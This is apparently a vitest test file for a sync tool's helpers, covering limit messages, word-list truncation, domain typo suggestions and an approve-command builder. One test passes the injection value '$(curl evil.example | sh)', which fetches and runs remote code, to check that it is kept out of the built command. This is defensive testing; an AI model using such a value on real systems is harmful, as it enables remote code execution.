/** Sentences that are put together (issue 17, point 17). */
import { expect, it } from "vitest";
import { approveCommand } from "../../../../src/api/commands.ts";
import { likeliest, someOf } from "../../../../src/base/words.ts";
import { describeLimit } from "../../../../src/sync/status/messages.ts";
import { syncSpec } from "../../../support/memory-operator.ts";

it.each([
  ["a ceiling", { limit: "deletionGuard", allowed: 35, actual: 167 }, "deletionGuard: 167, allowed 35"],
  ["a floor", { limit: "tenant accounts", allowed: 1, actual: 0 }, "tenant accounts: 0, at least 1"],
])("a limit that is %s is told as such", (_what, violation, expected) => {
  expect(describeLimit(violation)).toBe(expected);
});

it.each([
  [[], "none"],
  [["a", "b"], "a, b"],
  [Array.from({ length: 12 }, (_, index) => `w${index}`), "w0, w1, w2, w3, w4, w5, w6, w7, w8, w9 and 2 more"],
])("of %j so much is shown", (words, expected) => {
  expect(someOf(words)).toBe(expected);
});

it.each([
  ["exmaple.com", ["example.net", "example.com"], "example.com"],
  ["example.com", ["sample.com", "exampel.org"], "sample.com"],
  ["example.co", ["example.org", "example.com"], "example.com"],
  ["example.com", ["harbour.example", "pine.example"], undefined],
  ["example.com", [], undefined],
  ["a.co", ["b.io"], undefined],
  ["abc.de", ["abd.de"], "abd.de"],
])("%s was likeliest meant to be one of %j: %s", (word, known, expected) => {
  expect(likeliest(word, known)).toBe(expected);
});

it("a digest that is none never becomes part of a command (issue 19, point 9)", () => {
  const object = { metadata: { namespace: "mail", name: "a" }, spec: syncSpec("a", {}) };
  expect(approveCommand(object, "0a1b")).toContain("approve=0a1b --overwrite");
  expect(approveCommand(object, "$(curl evil.example | sh)")).not.toContain("evil");
});
